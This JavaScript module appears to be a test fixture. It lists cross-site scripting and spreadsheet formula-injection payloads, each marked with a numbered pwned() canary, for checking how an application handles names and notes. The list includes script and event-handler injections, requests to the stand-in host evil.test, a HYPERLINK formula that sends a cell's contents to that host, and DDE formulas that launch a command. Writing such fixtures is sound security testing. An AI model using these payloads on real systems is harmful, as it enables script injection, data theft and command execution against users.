// SPDX-License-Identifier: ISC
// attacks.js: what people might write into names and notes so that a browser or a spreadsheet runs it. N is the number
// by which the browser would tell of it.
'use strict';
const written = [
    '<script>pwned(N)</script>',
    '"><script>pwned(N)</script>',
    "'><img src=x onerror=pwned(N)>",
    '<svg onload=pwned(N)>',
    '<svg><script>pwned(N)</script></svg>',
    '</title><script>pwned(N)</script>',
    '</style><script>pwned(N)</script>',
    '</textarea><script>pwned(N)</script>',
    '</select></option><img src=x onerror=pwned(N)>',
    '<iframe srcdoc="<script>parent.pwned(N)</script>"></iframe>',
    '<iframe src="javascript:parent.pwned(N)"></iframe>',
    '<details open ontoggle=pwned(N)>x</details>',
    '<video><source onerror=pwned(N)></video>',
    '<body onload=pwned(N)>',
    '<input autofocus onfocus=pwned(N)>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(N)>',
    '<a href="javascript:pwned(N)">klik</a>',
    '<object data="javascript:pwned(N)"></object><embed src="javascript:pwned(N)">',
    '<meta http-equiv=refresh content="0;url=http://evil.test/N">',
    '<base href="http://evil.test/">',
    '<link rel=stylesheet href=http://evil.test/N.css>',
    '<img src=http://evil.test/N.png>',
    "<style>@import'http://evil.test/N.css';</style>",
    '" onmouseover="pwned(N)" autofocus onfocus="pwned(N)" x="',
    "' autofocus onfocus='pwned(N)' x='",
    '--><script>pwned(N)</script><!--',
    '<![CDATA[><script>pwned(N)</script>]]>',
    '<template><script>pwned(N)</script></template><script>pwned(N)</script>',
    '{{{root.name}}}{{#root}}<script>pwned(N)</script>{{/root}}',
    '[[Accept this ticket]]{{>part.send.html}}<b onclick=pwned(N)>',
    '&lt;script&gt;pwned(N)&lt;/script&gt;',
    '%3Cscript%3Epwned(N)%3C/script%3E',
    '\\u003cscript\\u003epwned(N)\\u003c/script\\u003e',
    '\uff1cscript\uff1epwned(N)\uff1c/script\uff1e',
    '+ADw-script+AD4-pwned(N)+ADw-/script+AD4-',
    '\u202e<script>pwned(N)</script>\u2028alert(1)',
    '=HYPERLINK("http://evil.test/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    '+SUM(1+1)*cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
];
const list = written.map((attack, i) => attack.replaceAll('(N)', `(${i})`).replaceAll('/N', `/${i}`));

module.exports = {
    list,
    // The next one from there on that is short enough for its field.
    at(i, bytes) {
        for (; ; i++) if (Buffer.byteLength(list[i % list.length]) <= bytes) return list[i % list.length];
    },
    village: (i) => `33.14.0${1 + (i % 2)}.${2001 + i}`,
    party: (i) => `mitra-${i}`,
};
